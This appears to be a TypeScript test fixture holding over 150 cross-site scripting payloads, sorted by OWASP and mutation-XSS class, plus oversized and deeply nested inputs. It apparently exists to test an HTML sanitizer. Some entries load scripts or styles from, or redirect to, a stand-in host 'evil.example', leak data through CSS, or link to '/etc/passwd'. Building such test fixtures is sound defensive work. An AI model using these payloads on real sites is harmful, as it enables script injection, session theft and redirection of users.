/** A text that would run a script, leave the page or spoof it if it were shown unchanged. */
export interface HostileBody {
  name: string;
  html: string;
}

type Vector = [name: string, html: (call: string) => string];

const each = (text: string, write: (code: number) => string) =>
  [...text].map((letter) => write(letter.codePointAt(0) ?? 0)).join('');
const decimal = (text: string) => each(text, (code) => `&#${code};`);
const decimalPadded = (text: string) => each(text, (code) => `&#${String(code).padStart(7, '0')}`);
const hex = (text: string) => each(text, (code) => `&#x${code.toString(16)};`);
const hexBare = (text: string) => each(text, (code) => `&#X${code.toString(16).toUpperCase()} `);
const escaped = (text: string) => each(text, (code) => `\\u${code.toString(16).padStart(4, '0')}`);
const base64 = (text: string) => Buffer.from(text).toString('base64');
const percent = (text: string) =>
  each(text, (code) => `%${code.toString(16).padStart(2, '0').toUpperCase()}`);
const page = (call: string) => `<script>parent.${call};top.${call}</script>`;

const SCRIPTS: Vector[] = [
  ['script', (call) => `<script>${call}</script>`],
  ['script-mixed-case', (call) => `<ScRiPt>${call}</sCrIpT>`],
  ['script-with-blank', (call) => `<script >${call}</script >`],
  ['script-slash-attribute', (call) => `<script/x>${call}</script>`],
  ['script-newline', (call) => `<script\n>${call}</script\n>`],
  ['script-unclosed', (call) => `<p>延吉</p><script>${call}`],
  ['script-half-opened', (call) => `<<script>${call}//<</script>`],
  ['script-in-script', (call) => `<scr<script>ipt>${call}</scr</script>ipt>`],
  ['script-removed-twice', (call) => `<scr<script></script>ipt>${call}</script>`],
  ['script-closing-first', (call) => `</script><script>${call}</script>`],
  ['script-type-module', (call) => `<script type="module">${call}</script>`],
  ['script-data-source', (call) => `<script src="data:text/javascript,${call}"></script>`],
  ['script-base64-source', (call) => `<script src="data:;base64,${base64(call)}"></script>`],
  ['script-remote', () => '<script src="https://evil.example/x.js"></script>'],
  ['script-protocol-relative', () => '<script src=//evil.example/x.js></script>'],
  ['script-without-end-bracket', () => '<script src=https://evil.example/x.js?< b >'],
  ['script-in-comment-end', (call) => `<!--><script>${call}</script>-->`],
  ['script-in-odd-comment', (call) => `<!--!><script>${call}</script>--!>`],
  ['script-after-dashes', (call) => `<!-- --!><script>${call}</script>`],
  ['script-in-cdata', (call) => `<![CDATA[><script>${call}</script>]]>`],
  ['script-in-processing', (call) => `<?xml ?><script>${call}</script>`],
  ['script-in-doctype', (call) => `<!DOCTYPE x ["><script>${call}</script>"]>`],
  ['script-conditional', (call) => `<!--[if gte IE 4]><script>${call}</script><![endif]-->`],
  ['script-downlevel', (call) => `<![if !IE]><script>${call}</script><![endif]>`],
  ['script-null-inside', (call) => `<scr\u0000ipt>${call}</scr\u0000ipt>`],
  ['script-null-before', (call) => `<\u0000script>${call}</script>`],
  ['script-utf7', (call) => `+ADw-script+AD4-${call}+ADw-/script+AD4-`],
  ['script-bom', (call) => `\ufeff<script>${call}</script>\ufeff`],
  ['script-fullwidth', (call) => `＜script＞${call}＜/script＞<script>${call}</script>`],
  ['script-overlong', (call) => `\u00c0\u00bcscript\u00c0\u00be${call}<script>${call}</script>`],
  ['script-lone-surrogate', (call) => `\ud800<script>${call}</script>\udc00`],
  ['script-entities', (call) => `&lt;script&gt;${call}&lt;/script&gt;`],
  ['script-double-entities', (call) => `&amp;lt;script&amp;gt;${call}&amp;lt;/script&amp;gt;`],
  ['script-escaped-text', (call) => `<script>eval('${escaped(call)}')</script>`],
];

const HANDLERS: Vector[] = [
  ['img-onerror', (call) => `<img src=x onerror="${call}">`],
  ['img-onerror-unquoted', (call) => `<img src=x onerror=${call}>`],
  ['img-onerror-slash', (call) => `<img/src=x/onerror=${call}>`],
  ['img-onerror-upper', (call) => `<IMG SRC=X ONERROR="${call}">`],
  ['img-onerror-newline', (call) => `<img src=x\nonerror\n=\n"${call}">`],
  ['img-onerror-form-feed', (call) => `<img\u000csrc=x\u000conerror=${call}>`],
  ['img-onerror-null', (call) => `<img src=x\u0000 onerror="${call}">`],
  ['img-onerror-entities', (call) => `<img src=x onerror="${decimal(call)}">`],
  ['img-onerror-hex', (call) => `<img src=x onerror="${hex(call)}">`],
  ['img-onerror-padded', (call) => `<img src=x onerror="${decimalPadded(call)}">`],
  ['img-onerror-backtick', (call) => `<img src=\`x\`onerror=${call}>`],
  ['img-broken-quote', (call) => `<img """><img src=x onerror="${call}">">`],
  ['img-alt-breakout', (call) => `<img alt="&quot;><img src=x onerror=${call}>" src=x>`],
  ['img-title-breakout', (call) => `<img src=/a.png title='"><img src=x onerror=${call}>'>`],
  ['img-alt-grave', (call) => `<img src=/a.png alt="\`\` onerror=${call}">`],
  ['img-unclosed', (call) => `<img src=x onerror="${call}" `],
  ['img-unclosed-tag', (call) => `<p>延吉</p><img src=x onerror=${call} <p>`],
  [
    'img-onload',
    (call) =>
      `<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload="${call}" onerror="${call}">`,
  ],
  ['image-element', (call) => `<image src=x onerror="${call}">`],
  ['allowed-paragraph-click', (call) => `<p onclick="${call}">點我</p>`],
  ['allowed-heading-hover', (call) => `<h2 onmouseover="${call}">小標題</h2>`],
  ['allowed-cell-hover', (call) => `<table><tr><td onmouseenter="${call}">格</td></tr></table>`],
  ['allowed-figure-pointer', (call) => `<figure onpointerover="${call}"><img src=/a.png></figure>`],
  ['allowed-link-focus', (call) => `<a href="/" autofocus onfocus="${call}">連結</a>`],
  ['tabindex-autofocus', (call) => `<p tabindex=1 autofocus onfocus="${call}">延吉</p>`],
  ['contenteditable-focus', (call) => `<p contenteditable autofocus onfocus="${call}">延吉</p>`],
  ['body-onload', (call) => `<body onload="${call}">延吉`],
  ['body-onpageshow', (call) => `<body onpageshow="${call}">延吉`],
  ['body-onresize', (call) => `<body onresize="${call}">延吉`],
  ['html-handler', (call) => `<html onmouseover="${call}"><p>延吉</p>`],
  ['details-toggle', (call) => `<details open ontoggle="${call}"><summary>x</summary></details>`],
  ['input-autofocus', (call) => `<input autofocus onfocus="${call}">`],
  ['select-autofocus', (call) => `<select autofocus onfocus="${call}"></select>`],
  ['textarea-autofocus', (call) => `<textarea autofocus onfocus="${call}"></textarea>`],
  ['button-click', (call) => `<button onclick="${call}">按</button>`],
  ['video-onerror', (call) => `<video src=x onerror="${call}"></video>`],
  ['video-source-onerror', (call) => `<video><source onerror="${call}" src=x></video>`],
  ['audio-onerror', (call) => `<audio src=x onerror="${call}"></audio>`],
  ['style-onload', (call) => `<style onload="${call}"></style>`],
  ['link-onerror', (call) => `<link rel=stylesheet href=x onerror="${call}">`],
  ['object-onerror', (call) => `<object data=x onerror="${call}"></object>`],
  ['iframe-onload', (call) => `<iframe onload="${call}"></iframe>`],
  ['marquee-onstart', (call) => `<marquee onstart="${call}">x</marquee>`],
  [
    'animation-start',
    (call) =>
      `<style>@keyframes k{}</style><p style="animation:k 1s" onanimationstart="${call}">x</p>`,
  ],
  [
    'transition-end',
    (call) =>
      `<p style="transition:color 1ms;color:red" ontransitionend="${call}" onmouseover="this.style.color='blue';${call}">x</p>`,
  ],
  ['script-onerror', (call) => `<script src=x onerror="${call}"></script>`],
  ['custom-element', (call) => `<x-y onclick="${call}" tabindex=0>按</x-y>`],
  ['unknown-element', (call) => `<foo onpointerenter="${call}">延吉</foo>`],
  ['handler-after-solidus', (call) => `<p/onclick=${call}>延吉</p>`],
  [
    'handler-with-unicode-blank',
    (call) => `<p\u3000onclick="${call}">延吉</p><p\u00a0onclick="${call}">x</p>`,
  ],
  ['handler-duplicate', (call) => `<img src=/a.png src=x onerror="" onerror="${call}">`],
  ['handler-in-end-tag', (call) => `<p>延吉</p onclick="${call}">`],
  [
    'popover',
    (call) =>
      `<button popovertarget=x>按</button><p popover id=x onbeforetoggle="${call}">延吉</p>`,
  ],
  [
    'content-visibility',
    (call) =>
      `<p style="display:block;content-visibility:auto" oncontentvisibilityautostatechange="${call}">x</p>`,
  ],
];

const link = (href: string) => `<a href="${href}">連結</a>`;

const ADDRESSES: Vector[] = [
  ['javascript-link', (call) => link(`javascript:${call}`)],
  ['javascript-upper', (call) => link(`JaVaScRiPt:${call}`)],
  ['javascript-leading-blanks', (call) => link(` \t\n javascript:${call}`)],
  ['javascript-leading-control', (call) => link(`\u0001\u001fjavascript:${call}`)],
  ['javascript-tab', (call) => link(`java\tscript:${call}`)],
  ['javascript-newline', (call) => link(`java\nscript:${call}`)],
  ['javascript-return', (call) => link(`java\rscript:${call}`)],
  ['javascript-tab-entity', (call) => link(`java&Tab;script:${call}`)],
  ['javascript-newline-entity', (call) => link(`java&NewLine;script:${call}`)],
  ['javascript-colon-entity', (call) => link(`javascript&colon;${call}`)],
  ['javascript-decimal', (call) => link(decimal(`javascript:${call}`))],
  ['javascript-decimal-padded', (call) => link(decimalPadded(`javascript:${call}`))],
  ['javascript-hex', (call) => link(hex(`javascript:${call}`))],
  ['javascript-hex-bare', (call) => link(hexBare(`javascript:${call}`))],
  ['javascript-tab-decimal', (call) => link(`java&#9;script&#10;:${call}`)],
  ['javascript-null', (call) => link(`java\u0000script:${call}`)],
  ['javascript-null-entity', (call) => link(`&#0;javascript:${call}`)],
  ['javascript-control-entity', (call) => link(`&#1;&#x1f;javascript:${call}`)],
  ['javascript-soft-hyphen', (call) => link(`java\u00adscript:${call}`)],
  ['javascript-zero-width', (call) => link(`\u200bjavascript:${call}`)],
  ['javascript-fullwidth', (call) => link(`ｊａｖａｓｃｒｉｐｔ：${call}`)],
  ['javascript-percent', (call) => link(`javascript:${percent(call)}`)],
  ['javascript-comment-address', (call) => link(`javascript://x.example/%0A${call}`)],
  ['javascript-unquoted', (call) => `<a href=javascript:${call}>連結</a>`],
  ['javascript-double-encoded', (call) => link(`javascript&amp;colon;${call}`)],
  ['javascript-new-window', (call) => `<a target=_blank href="javascript:opener.${call}">連結</a>`],
  ['vbscript', () => link('vbscript:msgbox(1)')],
  ['livescript', (call) => link(`livescript:${call}`)],
  ['data-link', (call) => link(`data:text/html,${page(call)}`)],
  ['data-link-base64', (call) => link(`data:text/html;base64,${base64(page(call))}`)],
  ['data-link-upper', (call) => link(`DATA:TEXT/HTML,${page(call)}`)],
  ['blob-link', () => link('blob:https://evil.example/1')],
  ['file-link', () => link('file:///etc/passwd')],
  ['protocol-relative-link', () => '<a href=//evil.example>連結</a>'],
  ['backslash-link', () => link('/\\evil.example')],
  ['backslashes-link', () => link('\\\\evil.example\\x')],
  ['tab-in-slashes', () => link('/\t/evil.example')],
  ['newline-in-slashes', () => link('/&NewLine;/evil.example')],
  ['view-source', (call) => link(`view-source:javascript:${call}`)],
  ['img-javascript', (call) => `<img src="javascript:${call}">`],
  ['img-data-svg', (call) => `<img src="data:image/svg+xml,<svg onload='${call}'/>">`],
  [
    'img-lowsrc',
    (call) => `<img lowsrc="javascript:${call}" dynsrc="javascript:${call}" src=/a.png>`,
  ],
  [
    'img-srcset',
    (call) => `<img srcset="x 1x, javascript:${call} 2x" onerror="${call}" src=/a.png>`,
  ],
  [
    'picture-source',
    (call) =>
      `<picture><source srcset="https://evil.example/x"><img src=x onerror="${call}"></picture>`,
  ],
  [
    'img-usemap',
    (call) =>
      `<img src=/a.png usemap=#m><map name=m><area shape=default href="javascript:${call}">連結</map>`,
  ],
  [
    'area-focus',
    (call) =>
      `<map name=n><area href="/" onfocus="${call}" autofocus></map><img usemap=#n src=/a.png>`,
  ],
  ['link-ping', (call) => `<a href="/" ping="https://evil.example" onclick="${call}">連結</a>`],
  ['blockquote-cite', (call) => `<blockquote cite="javascript:${call}">引文</blockquote>`],
  [
    'cell-background',
    (call) =>
      `<table background="javascript:${call}"><tr><td background="javascript:${call}">格</table>`,
  ],
  ['body-background', (call) => `<body background="javascript:${call}">`],
  [
    'form-action',
    (call) => `<form action="javascript:${call}"><input type=submit value=送出></form>`,
  ],
  [
    'button-formaction',
    (call) => `<form><button formaction="javascript:${call}">按</button></form>`,
  ],
  [
    'input-image-formaction',
    (call) => `<form><input type=image src=/a.png formaction="javascript:${call}"></form>`,
  ],
  ['isindex', (call) => `<isindex action="javascript:${call}" type=image>`],
  [
    'nested-forms',
    (call) =>
      `<form><div></form><form action="javascript:${call}"><input type=submit></form></div>`,
  ],
  [
    'form-attribute',
    (call) => `<form id=f></form><button form=f formaction="javascript:${call}">按</button>`,
  ],
];

const EMBEDDED: Vector[] = [
  ['iframe-javascript', (call) => `<iframe src="javascript:parent.${call}"></iframe>`],
  ['iframe-data', (call) => `<iframe src="data:text/html,${page(call)}"></iframe>`],
  ['iframe-srcdoc', (call) => `<iframe srcdoc="${page(call)}"></iframe>`],
  ['iframe-srcdoc-entities', (call) => `<iframe srcdoc="${decimal(page(call))}"></iframe>`],
  ['iframe-unclosed', (call) => `<iframe src="javascript:parent.${call}"`],
  [
    'iframe-text',
    (call) => `<iframe></p><img src=x onerror="${call}"></iframe><img src=x onerror="${call}">`,
  ],
  ['frameset', (call) => `<frameset onload="${call}"><frame src="javascript:${call}"></frameset>`],
  ['object-data', (call) => `<object data="javascript:parent.${call}"></object>`],
  ['object-html', (call) => `<object type=text/html data="data:text/html,${page(call)}"></object>`],
  [
    'object-param',
    (call) =>
      `<object><param name=src value="javascript:${call}"><img src=x onerror="${call}"></object>`,
  ],
  ['embed-javascript', (call) => `<embed src="javascript:parent.${call}">`],
  [
    'embed-svg',
    (call) =>
      `<embed type=image/svg+xml src="data:image/svg+xml;base64,${base64(`<svg xmlns="http://www.w3.org/2000/svg"><script>parent.${call}</script></svg>`)}">`,
  ],
  [
    'applet',
    (call) =>
      `<applet code="javascript:${call}" archive=//evil.example></applet><img src=x onerror="${call}">`,
  ],
  ['base-javascript', (call) => `<base href="javascript:/a/-${call};//"><a href="#">連結</a>`],
  [
    'base-remote',
    () => '<base href="https://evil.example/"><a href="/x">連結</a><img src="/x.png">',
  ],
  ['base-target', (call) => `<base target="${call}"><a href="https://evil.example/">連結</a>`],
  ['meta-refresh', (call) => `<meta http-equiv=refresh content="0;url=javascript:${call}">`],
  [
    'meta-refresh-data',
    (call) => `<meta http-equiv=refresh content="0;url=data:text/html,${page(call)}">`,
  ],
  [
    'meta-refresh-remote',
    () => '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
  ],
  ['meta-charset', () => '<meta charset="utf-7">+ADw-script+AD4-1+ADw-/script+AD4-'],
  ['meta-cookie', () => '<meta http-equiv="Set-Cookie" content="a=<script>1</script>">'],
  ['link-stylesheet', () => '<link rel=stylesheet href=//evil.example/x.css>'],
  ['link-import', (call) => `<link rel=import href="data:text/html,${page(call)}">`],
  [
    'link-prefetch',
    () => '<link rel=dns-prefetch href=//evil.example><link rel=prerender href=//evil.example>',
  ],
  ['portal', () => '<portal src="https://evil.example/"></portal>'],
  [
    'bgsound',
    (call) => `<bgsound src="javascript:${call}"><layer src="https://evil.example/">x</layer>`,
  ],
  [
    'dialog',
    (call) =>
      `<dialog open onclose="${call}" onfocusin="${call}"><form method=dialog><button autofocus>關</button></form></dialog>`,
  ],
  [
    'slot-template',
    (call) => `<div><template shadowrootmode=open><img src=x onerror="${call}"></template></div>`,
  ],
];

const STYLES: Vector[] = [
  ['style-import', () => '<style>@import "https://evil.example/x.css";</style>'],
  ['style-import-javascript', (call) => `<style>@import'javascript:${call}';</style>`],
  ['style-background', () => '<style>body{background:url(//evil.example/x)}</style>'],
  ['style-escape', (call) => `<style></style><script>${call}</script>`],
  ['style-comment', (call) => `<style><!--</style><script>${call}//--></script>`],
  ['style-expression', (call) => `<p style="width:expression(${call})">延吉</p>`],
  ['style-expression-comment', (call) => `<p style="xss:expr/*x*/ession(${call})">延吉</p>`],
  ['style-expression-unicode', (call) => `<p style="width:\\65xpression(${call})">延吉</p>`],
  ['style-alignment-breakout', (call) => `<p style='text-align:center;"onclick="${call}'>延吉</p>`],
  [
    'style-alignment-url',
    () => '<p style="text-align:center;background:url(//evil.example/x)">延吉</p>',
  ],
  [
    'style-url-javascript',
    (call) => `<p style="background-image:url(javascript:${call})">延吉</p>`,
  ],
  ['style-binding', () => '<p style="-moz-binding:url(//evil.example/x.xml#x)">延吉</p>'],
  ['style-behavior', () => '<p style="behavior:url(//evil.example/x.htc)">延吉</p>'],
  [
    'style-overlay',
    () => '<a href="https://evil.example/" style="position:fixed;inset:0;z-index:9">x</a>',
  ],
  [
    'style-attribute-leak',
    () => '<style>a[href^="/"]{background:url(//evil.example/?a)}</style><a href="/">x</a>',
  ],
  ['align-breakout', (call) => `<p align='center" onclick="${call}'>延吉</p>`],
];

const FOREIGN: Vector[] = [
  ['svg-onload', (call) => `<svg onload="${call}">`],
  ['svg-slash-onload', (call) => `<svg/onload=${call}>`],
  ['svg-script', (call) => `<svg><script>${call}</script></svg>`],
  ['svg-script-entities', (call) => `<svg><script>${hex(call)}</script></svg>`],
  ['svg-script-href', (call) => `<svg><script href="data:text/javascript,${call}"/></svg>`],
  ['svg-script-cdata', (call) => `<svg><script><![CDATA[${call}]]></script></svg>`],
  ['svg-link', (call) => `<svg><a href="javascript:${call}"><text x=20 y=20>連結</text></a></svg>`],
  [
    'svg-xlink',
    (call) => `<svg><a xlink:href="javascript:${call}"><text x=20 y=20>連結</text></a></svg>`,
  ],
  [
    'svg-animate-link',
    (call) =>
      `<svg><a><animate attributeName=href values="javascript:${call}"/><text x=20 y=20>連結</text></a></svg>`,
  ],
  ['svg-animate-begin', (call) => `<svg><animate onbegin="${call}" attributeName=x dur=1s>`],
  [
    'svg-set',
    (call) => `<svg><set attributeName=onmouseover to="${call}" onbegin="${call}"/></svg>`,
  ],
  [
    'svg-foreign-object',
    (call) => `<svg><foreignObject><img src=x onerror="${call}"></foreignObject></svg>`,
  ],
  [
    'svg-use',
    (call) =>
      `<svg><use href="data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>${call}</script></svg>#x"/></svg>`,
  ],
  ['svg-image', (call) => `<svg><image href=x onerror="${call}"/></svg>`],
  ['svg-title', (call) => `<svg><title><img src=x onerror="${call}"></title></svg>`],
  ['svg-desc', (call) => `<svg><desc><script>${call}</script></desc></svg>`],
  ['svg-style-breakout', (call) => `<svg><style><img src=x onerror="${call}"></style></svg>`],
  [
    'svg-paragraph-breakout',
    (call) => `<svg></p><style><a id="</style><img src=x onerror=${call}>">`,
  ],
  ['math-link', (call) => `<math><mtext href="javascript:${call}">連結</mtext></math>`],
  [
    'math-xlink',
    (call) => `<math xlink:href="javascript:${call}" href="javascript:${call}">連結</math>`,
  ],
  [
    'math-action',
    (call) =>
      `<math><maction actiontype="statusline#x" xlink:href="javascript:${call}">x</maction></math>`,
  ],
  [
    'math-style',
    (call) => `<math><mtext><style><img src=x onerror="${call}"></style></mtext></math>`,
  ],
  [
    'math-annotation',
    (call) =>
      `<math><annotation-xml encoding="text/html"><img src=x onerror="${call}"></annotation-xml></math>`,
  ],
  [
    'math-glyph',
    (call) =>
      `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror=${call}&gt;">`,
  ],
  [
    'math-form',
    (call) => `<form><math><mtext></form><form><mglyph><style></math><img src onerror="${call}">`,
  ],
  [
    'math-malignmark',
    (call) => `<math><mtext><malignmark><style><img src=x onerror="${call}"></style>`,
  ],
  [
    'xml-namespace',
    (call) => `<x:script xmlns:x="http://www.w3.org/1999/xhtml">${call}</x:script>`,
  ],
  [
    'html-import-xml',
    (call) =>
      `<html xmlns:t="urn:time"><?import namespace="t"><t:set to="&lt;script&gt;${call}&lt;/script&gt;">`,
  ],
];

const MUTATIONS: Vector[] = [
  ['noscript-title', (call) => `<noscript><p title="</noscript><img src=x onerror=${call}>">`],
  [
    'noscript-comment',
    (call) => `<noscript><!--</noscript><img src=x onerror="${call}">--></noscript>`,
  ],
  ['noscript-style', (call) => `<noscript><style></noscript><img src=x onerror="${call}">`],
  ['textarea-title', (call) => `<textarea><p title="</textarea><img src=x onerror=${call}>">`],
  ['title-breakout', (call) => `<title><p title="</title><img src=x onerror=${call}>">`],
  ['xmp-breakout', (call) => `<xmp><p title="</xmp><img src=x onerror=${call}>">`],
  ['noembed-breakout', (call) => `<noembed><p title="</noembed><img src=x onerror=${call}>">`],
  ['noframes-breakout', (call) => `<noframes><p title="</noframes><img src=x onerror=${call}>">`],
  ['iframe-breakout', (call) => `<iframe><p title="</iframe><img src=x onerror=${call}>">`],
  ['style-title-breakout', (call) => `<style><p title="</style><img src=x onerror=${call}>">`],
  ['plaintext', (call) => `<plaintext><img src=x onerror="${call}">`],
  ['plaintext-after-table', (call) => `<table><plaintext></table><img src=x onerror="${call}">`],
  ['listing', (call) => `<listing>&lt;img src=x onerror=${call}&gt;</listing>`],
  ['pre-listing', (call) => `<pre>\n\n&lt;img src=x onerror=${call}&gt;</pre>`],
  [
    'template',
    (call) => `<template><img src=x onerror="${call}"></template><img src=x onerror="${call}">`,
  ],
  ['template-script', (call) => `<template></template><script>${call}</script>`],
  ['foster-parent', (call) => `<table><img src=x onerror="${call}"><tr><td>格</td></tr></table>`],
  ['foster-script', (call) => `<table><script>${call}</script><tr><td>格</table>`],
  ['foster-link', (call) => `<a><table><a href="javascript:${call}">連結</table></a>`],
  [
    'foster-select',
    (call) =>
      `<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=${call}>">`,
  ],
  [
    'caption-style',
    (call) =>
      `<table><caption><svg><title><table><caption></caption></table></title><style><a id="</style><img src=x onerror=${call}>"></style></svg></caption></table>`,
  ],
  [
    'nested-formatting',
    (call) => `<b><p><b><p><a href="/"><b><table><a href="javascript:${call}">連結</table>`,
  ],
  ['paragraph-in-link', (call) => `<a href="javascript:${call}"><p>段<a href="/">連結</a></p></a>`],
  ['select-nesting', (call) => `<select><iframe></select><img src=x onerror="${call}">`],
  ['frameset-after', (call) => `<svg></svg><frameset onload="${call}">`],
  ['attribute-in-attribute', (call) => `<p title="a" b='"><img src=x onerror=${call}>'>延吉</p>`],
  ['quote-entity', (call) => `<a href="/x&quot;onmouseover=&quot;${call}">連結</a>`],
  ['quote-percent', (call) => `<a href='/x"onmouseover="${call}'>連結</a>`],
  [
    'bracket-in-attribute',
    (call) => `<img alt="<x" title="/><img src=x onerror=${call}>" src=/a.png>`,
  ],
  [
    'comment-in-attribute',
    (call) => `<a title="--><img src=x onerror=${call}>" href="/"><!-- 連結 --></a>`,
  ],
  ['comment-short', (call) => `<!---><img src=x onerror="${call}">`],
  ['comment-unclosed', (call) => `<p>延吉</p><!-- <img src=x onerror="${call}">`],
  ['comment-bogus', (call) => `</ <img src=x onerror="${call}">`],
  [
    'cdata-image',
    (call) =>
      `<![CDATA[<img src=x onerror="${call}">]]><svg><![CDATA[</svg><img src=x onerror="${call}">]]></svg>`,
  ],
  ['end-tag-first', (call) => `</p></div></body></html><img src=x onerror="${call}">`],
  ['half-tag', (call) => `<p>延吉</p><img src=x onerror=${call}//`],
  ['entity-markup', (call) => `<p>&lt;img src=x onerror=${call}&gt;</p>`],
  ['entity-without-semicolon', (call) => `<p>&ltimg src=x onerror=${call}&gt</p>`],
  ['entity-numeric-markup', (call) => `<p>${decimal(`<img src=x onerror=${call}>`)}</p>`],
  [
    'template-expression',
    (call) => `<p>{{constructor.constructor('${'x'}')()}} \${${call}} <%= 1 %></p>`,
  ],
];

const CLOBBERING: Vector[] = [
  [
    'clobber-form',
    () => '<form id=document name=body><input name=parentNode><input id=attributes></form>',
  ],
  [
    'clobber-cookie',
    () => '<img name=cookie src=/a.png><img id=getElementById name=getElementById src=/a.png>',
  ],
  [
    'clobber-config',
    () => '<a id=config></a><a id=config name=url href="https://evil.example/">x</a>',
  ],
  [
    'clobber-current-script',
    () => '<img name=currentScript src="https://evil.example/x"><a id=defaultView>x</a>',
  ],
  [
    'clobber-frames',
    () => '<iframe name=self srcdoc="<a id=top>"></iframe><p id=location>延吉</p>',
  ],
  [
    'clobber-prototype',
    () => '<p id=__proto__ name=constructor>延吉</p><p id=hasOwnProperty>x</p>',
  ],
  [
    'clobber-heading',
    () =>
      '<h2 id=app class=admin>小標題</h2><table id=tables name=root><tr><td id=length>格</table>',
  ],
  [
    'clobber-inner-html',
    () => '<form><input name=innerHTML><input name=nodeName><input name=submit></form>',
  ],
  [
    'data-attributes',
    (call) =>
      `<p data-bind="click: ${call}" v-on:click="${call}" @click="${call}" ng-click="${call}" x-init="${call}" hx-on:click="${call}">延吉</p>`,
  ],
  ['aria-role', () => '<p role=alert aria-live=assertive is=x-y slot=a part=b itemid=c>延吉</p>'],
];

/** At least 150 ways to inject a script, by the classes of OWASP's cheat sheet and of mutation XSS. */
export const HOSTILE_BODIES: readonly HostileBody[] = [
  ...SCRIPTS,
  ...HANDLERS,
  ...ADDRESSES,
  ...EMBEDDED,
  ...STYLES,
  ...FOREIGN,
  ...MUTATIONS,
  ...CLOBBERING,
].map(([name, html]) => ({ name, html: html(`window.__pwned?.('${name}')`) }));

/** Every n-th of them, for a slow route. */
export function someHostileBodies(count: number): readonly HostileBody[] {
  const step = HOSTILE_BODIES.length / count;
  return Array.from(
    { length: count },
    (_, index) => HOSTILE_BODIES[Math.floor(index * step)],
  ).flatMap((body) => body ?? []);
}

/** Nested so deeply that a recursive parser overflows the stack. */
export const TOO_DEEP = `${'<blockquote>'.repeat(10_000)}深${'</blockquote>'.repeat(10_000)}`;
/** 5 MB of text. */
export const TOO_LARGE = `<p>${'延吉的新聞很長。'.repeat(Math.ceil((5 * 1024 * 1024) / 24))}</p>`;
